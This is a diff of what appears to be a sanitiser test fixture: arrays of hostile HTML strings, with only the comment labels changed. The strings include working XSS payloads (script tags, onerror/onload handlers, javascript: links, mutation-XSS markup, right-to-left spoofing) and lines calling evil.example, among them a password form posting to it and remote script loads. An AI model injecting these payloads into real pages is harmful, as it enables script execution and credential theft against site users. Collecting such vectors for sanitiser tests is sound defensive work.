@@ -8,7 +8,7 @@ const DATA_PAGE = 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB
 
 /** Attacks in well-formed HTML. */
 export const hostileHtml: readonly string[] = [
-  // scripts
+  // Attacks by scripts.
   `<script>${RUN}</script>`,
   '<script src="https://evil.example/x.js"></script>',
   `<script type="module">${RUN}</script>`,
@@ -16,7 +16,7 @@ export const hostileHtml: readonly string[] = [
   `<scr<script>ipt>${RUN}</scr</script>ipt>`,
   `<template><script>${RUN}</script></template>`,
   `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
-  // handlers
+  // Attacks by event handlers.
   `<img src=x onerror=${RUN}>`,
   `<img src=x onerror="${RUN}" onload="${RUN}">`,
   `<img/src=x/onerror=${RUN}>`,
@@ -31,7 +31,7 @@ export const hostileHtml: readonly string[] = [
   `<marquee onstart=${RUN}>x</marquee>`,
   `<div popover id=p onbeforetoggle=${RUN}>x</div><button popovertarget=p>x</button>`,
   `<div style="animation-name:x" onanimationstart=${RUN}>x</div>`,
-  // links
+  // Attacks by links.
   `<a href="javascript:${RUN}">x</a>`,
   `<a href="JaVaScRiPt:${RUN}">x</a>`,
   `<a href=" \u0001javascript:${RUN}">x</a>`,
@@ -46,7 +46,7 @@ export const hostileHtml: readonly string[] = [
   '<a href="https://user:pass@evil.example/">x</a>',
   '<a href="/m/api/logout" ping="https://evil.example/">x</a>',
   `<map name=m><area href="javascript:${RUN}" shape=default></map><img usemap=#m src=/x.png>`,
-  // frames, plugins, documents
+  // Attacks by frames, plugins, documents.
   `<iframe src="javascript:${RUN}"></iframe>`,
   `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
   `<object data="${DATA_PAGE}"></object>`,
@@ -55,14 +55,14 @@ export const hostileHtml: readonly string[] = [
   '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
   '<link rel="stylesheet" href="https://evil.example/x.css">',
   '<link rel="manifest" href="https://evil.example/m.json">',
-  // styles
+  // Attacks by styles.
   '<style>*{display:none!important}</style>',
   '<style>@import "https://evil.example/x.css";</style>',
   '<p style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/x)">x</p>',
   '<p class="appRoot" id="root">x</p>',
   '<div slot="x" is="x-evil" part="x">x</div>',
   '<font size=99 color=red face="x">x</font>',
-  // SVG and MathML
+  // Attacks by SVG and MathML.
   `<svg onload=${RUN}></svg>`,
   `<svg><script>${RUN}</script></svg>`,
   `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
@@ -72,26 +72,26 @@ export const hostileHtml: readonly string[] = [
   `<svg><image href="x" onerror=${RUN} /></svg>`,
   `<math><mtext href="javascript:${RUN}">x</mtext></math>`,
   `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
-  // forms that request passwords
+  // Attacks by forms that request passwords.
   '<form action="https://evil.example/" method=post><input name=password type=password><button>Log in</button></form>',
   `<input autofocus onfocus=${RUN}>`,
   `<button formaction="javascript:${RUN}">x</button>`,
   '<input name=attributes><input name=innerHTML>',
   '<select><option>x</option></select>',
   '<dialog open>Log in again: <input></dialog>',
-  // mutations: markup that changes its meaning when it is serialised and parsed again
+  // Attacks by mutation: markup that changes its meaning when it is serialised and parsed again.
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
   `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg>`,
   `<table><caption><script>${RUN}</script></caption><tr><td><svg onload=${RUN}></svg></table>`,
   `<ul><li><ol><li><p onclick=${RUN}><h1 onclick=${RUN}>x</ol></ul>`,
-  // direction: text that reads as something else
+  // Attacks by text direction: text that reads as something else.
   '<p>\u202Egpj.exe\u202C</p>',
   '<p>&#x202E;moc.live&#x202C; &#8237;x</p>',
   '<bdo dir="rtl">elpmaxe.live</bdo>',
   '<p dir="rtl" lang="x" onclick=1>\u2066\u2067\u2068x</p>',
 ]
 
-/** Attacks in HTML that swallows the following content. */
+/** Attacks in HTML that swallows the content after it, such as an unclosed comment. */
 export const swallowingHtml: readonly string[] = [
   '<plaintext>',
   `<!--<img src="--><img src=x onerror=${RUN}>`,
